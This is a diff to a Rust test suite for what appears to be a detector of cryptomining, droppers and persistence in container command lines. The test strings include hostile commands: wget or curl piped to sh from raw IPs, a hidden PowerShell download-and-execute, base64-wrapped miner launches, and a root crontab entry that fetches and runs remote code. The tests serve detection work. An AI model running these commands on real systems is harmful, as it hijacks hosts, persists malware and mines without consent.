@@ -84,6 +84,8 @@ fn doubtful_lines_are_suspicious() {
     for line in [
         "./svc|-o|10.0.0.9:3333|-u|x|-p|x|-k",
         "geth|--mine|--miner.threads=1",
+        "--mine|--miner.threads=8|--miner.etherbase={ETH}",
+        "svc|-o|cdn.example.net:443|--tls|-k|-t|4|--coin|monero",
         "app|--rig-id|7",
         "/entrypoint.sh|xmrig",
     ] {
@@ -95,6 +97,8 @@ fn doubtful_lines_are_suspicious() {
 fn programs_with_a_miners_options_are_innocent() {
     for line in [
         "nginx|-g|daemon off;",
+        "--mine|--verbose",
+        "app|-o|cdn.example.net:443|--tls|--coin|usd",
         "psql|-h|db:5432|-u|app|-p|5432",
         "mysql|-u|root|-p|secret|-h|db",
         "curl|-o|/tmp/x|-u|user:pass|https://example.com:8443/x",
@@ -240,6 +244,14 @@ fn downloads_are_weighed_by_their_host() {
             Strength::Strong,
         ),
         ("busybox wget -qO- http://1.2.3.4/x | sh", Strength::Strong),
+        (
+            "wget -q http://1.2.3.4/s/app -O /w/app && chmod 777 /w/app",
+            Strength::Strong,
+        ),
+        (
+            "cmd.exe /c \"powershell -nop -w hidden -c \\\"IEX (New-Object Net.WebClient).DownloadString('http://1.2.3.4/m.ps1')\\\"\"",
+            Strength::Strong,
+        ),
     ] {
         let signals = signals_in_argv(&["sh", "-c", script]);
         let best = signals
@@ -253,6 +265,60 @@ fn downloads_are_weighed_by_their_host() {
 }
 
 #[test]
+fn texts_in_base64_are_read() {
+    for argv in [
+        // `import os;os.system("/tmp/k -o stratum+ssl://xmr.example.net:8029")`
+        &[
+            "python3",
+            "-c",
+            "import base64;exec(base64.b64decode('aW1wb3J0IG9zO29zLnN5c3RlbSgiL3RtcC9rIC1vIHN0cmF0dW0rc3NsOi8veG1yLmV4YW1wbGUubmV0OjgwMjkiKQ=='))",
+        ] as &[&str],
+        // `{"donate-level":1,"pools":[{"url":"pool.supportxmr.com:443","user":"x"}]}`
+        &[
+            "/entrypoint",
+            "eyJkb25hdGUtbGV2ZWwiOjEsInBvb2xzIjpbeyJ1cmwiOiJwb29sLnN1cHBvcnR4bXIuY29tOjQ0MyIsInVzZXIiOiJ4In1dfQ==",
+        ],
+        // `/tmp/x -o pool.supportxmr.com:443 -u x`, as PowerShell takes it
+        &[
+            "powershell",
+            "-enc",
+            "LwB0AG0AcAAvAHgAIAAtAG8AIABwAG8AbwBsAC4AcwB1AHAAcABvAHIAdAB4AG0AcgAuAGMAbwBtADoANAA0ADMAIAAtAHUAIAB4AA==",
+        ],
+    ] {
+        let signals = signals_in_argv(argv);
+        assert_eq!(assess(&signals), Verdict::Mining, "{argv:?}\n{signals:#?}");
+    }
+}
+
+#[test]
+fn base64_of_others_is_innocent() {
+    for argv in [
+        // `server: {port: 8080, poolSize: 20, url: "postgres://db:5432/app"}`
+        &[
+            "sh",
+            "-c",
+            "echo c2VydmVyOiB7cG9ydDogODA4MCwgcG9vbFNpemU6IDIwLCB1cmw6ICJwb3N0Z3JlczovL2RiOjU0MzIvYXBwIn0= | base64 -d > /tmp/c; exec app",
+        ] as &[&str],
+        &[
+            "app",
+            "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
+        ],
+        &[
+            "app",
+            "--path",
+            "/usr/share/very/long/path/of/an/application/in/its/image",
+        ],
+    ] {
+        let signals = signals_in_argv(argv);
+        assert_eq!(assess(&signals), Verdict::Clean, "{argv:?}\n{signals:#?}");
+        assert!(
+            !has(&signals, Kind::DownloadAndRun, Strength::Weak),
+            "{argv:?}"
+        );
+    }
+}
+
+#[test]
 fn ordinary_downloads_are_none() {
     for script in [
         "curl -sf http://localhost:8080/healthz",
@@ -261,6 +327,7 @@ fn ordinary_downloads_are_none() {
         "curl -s https://api/x | jq .a",
         "curl -o /tmp/a.json https://x/a.json; cat /tmp/a.json",
         "cat script.sh | sh",
+        "wget -O /p/tool https://github.com/o/tool/releases/download/v1/tool && chmod +x /p/tool",
         "echo aGVsbG8= | base64 -d",
         "kubectl get secret x -o jsonpath={.data.p} | base64 -d",
         "# curl https://evil | sh",
@@ -292,6 +359,10 @@ fn droppers_give_themselves_away() {
         ),
         (
             "echo /usr/lib/libx.so > /etc/ld.so.preload",
+            Kind::Persistence,
+        ),
+        (
+            "echo '* * * * * root curl -s http://1.2.3.4/x | sh' >> /host/etc/crontab",
             Kind::Persistence,
         ),
         (
